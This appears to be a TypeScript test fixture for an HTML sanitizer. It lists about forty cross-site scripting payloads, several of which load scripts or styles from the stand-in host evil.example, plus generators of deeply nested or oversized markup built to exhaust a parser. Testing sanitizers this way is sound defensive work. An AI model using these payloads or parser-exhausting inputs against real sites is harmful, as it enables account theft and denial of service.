/** Markup made to run something, or to break the reader. Every way to run calls `pwned()` or asks `https://evil.example/`. */
const RUN = 'pwned()';

export const RUNNING: readonly string[] = [
  `<script>${RUN}</script>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror=${RUN}//`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<a href=" \tjava\nscript:${RUN}">a</a>`,
  `<a href="&#106;avascript&colon;${RUN}">a</a>`,
  `<a href="\x01javascript:${RUN}">a</a>`,
  `<a href="vbscript:${RUN}">a</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<a href="https://ok.example/" onclick="${RUN}" style="x:expression(${RUN})">a</a>`,
  `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  `<details open ontoggle="${RUN}"><summary>s</summary>t</details>`,
  `<video src="https://evil.example/v" onloadstart="${RUN}" autoplay></video>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">`,
  `<style>@import "https://evil.example/i.css"; body{background:url(https://evil.example/b)}</style>`,
  `<p style="background:url(javascript:${RUN});width:expression(${RUN})">styled</p>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea><img src=x onerror="${RUN}"></textarea><title><img src=x onerror="${RUN}"></title>`,
  `<!--><img src=x onerror="${RUN}">--><!--- --!><img src=x onerror="${RUN}">`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<img src="https://site.example/p.png" alt='"><img src=x onerror="${RUN}">'>`,
  `<pre class='language-"><script>${RUN}</script>'>code</pre>`,
  `<img eeimg="1" alt="</span><script>${RUN}</script>" src="/eq">`,
  `<p>[x](javascript:${RUN}) &lt;img src=x onerror=${RUN}&gt; \`&lt;script&gt;\` </p>`,
  `<p>&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;</p>`,
  `<img srcset="javascript:${RUN} 1x, https://evil.example/s 2x" src="https://site.example/q.png">`,
  `<input type="image" src="x" onerror="${RUN}"><isindex action="javascript:${RUN}">`,
  `<body onload="${RUN}"><frameset onload="${RUN}"><marquee onstart="${RUN}">m</marquee>`,
  `<div id="location" name="cookie">clobber</div><a id="__proto__" name="constructor">p</a>`,
];

const TEXT = `<p>${'A plain sentence of the article, written to be kept. '.repeat(8)}</p>`;

/** Markup that is only too much of something. */
export const HEAVY: Readonly<Record<string, () => string>> = {
  'divs, 100 000 deep': () => '<div>'.repeat(100_000) + TEXT + '</div>'.repeat(100_000),
  'emphasis never closed': () => '<b><i>'.repeat(50_000) + TEXT,
  'end tags that match nothing': () => '<div>'.repeat(60_000) + '</span>'.repeat(60_000) + TEXT,
  'tables in tables': () => '<table><tr><td>'.repeat(20_000) + TEXT,
  'lists in lists': () => '<ul><li>x'.repeat(20_000) + TEXT,
  'an attribute of 5 MB': () => `<p title="${'x'.repeat(5_000_000)}">${TEXT}`,
  'a class of a million words': () => `<div class="${'a '.repeat(1_000_000)}">${TEXT}</div>`,
  'null bytes': () => `<p>${'\0'.repeat(500_000)}</p>${TEXT}`,
  'white space': () => `<p>${' '.repeat(1_000_000)}x${'\u3000'.repeat(500_000)}</p>${TEXT}`,
  'scripts side by side': () => '<script>a</script>'.repeat(30_000) + TEXT,
  'headings side by side': () => '<h1>heading line</h1>'.repeat(10_000) + TEXT,
  'links side by side': () => '<a href="/x">link text</a> '.repeat(20_000) + TEXT,
  'brackets of JSON': () => `<script type="application/ld+json">${'['.repeat(200_000)}</script>${TEXT}`,
  'a title of separators': () => `<title>${'a - '.repeat(100_000)}</title>${TEXT}`,
  'spans of cells': () =>
    `<table>${`<tr>${'<td rowspan="100" colspan="100">x</td>'.repeat(20)}</tr>`.repeat(200)}</table>${TEXT}`,
  'less-than signs': () => '<'.repeat(300_000) + TEXT,
};

/** More elements than any article has; all their text is to be kept, their structure as far as it is bounded. */
export const CROWDED: Readonly<Record<string, () => string>> = {
  'raised figures': () => `<p>${'x<sup>2</sup>'.repeat(60_000)}</p>${TEXT}`,
  'letters with their reading': () => `<p>${'<ruby>x<rt>y</rt></ruby>'.repeat(60_000)}</p>${TEXT}`,
  'rows of cells': () => `<table>${'<tr><td>x<td>y'.repeat(30_000)}</table>${TEXT}`,
  'details in summaries': () => '<details><summary>x'.repeat(40_000) + TEXT,
  'different pictures': () => Array.from({ length: 60_000 }, (_, at) => `<img src="/${at}.png">`).join('') + TEXT,
  'blocks of code': () => '<pre>x</pre>'.repeat(25_000) + TEXT,
};
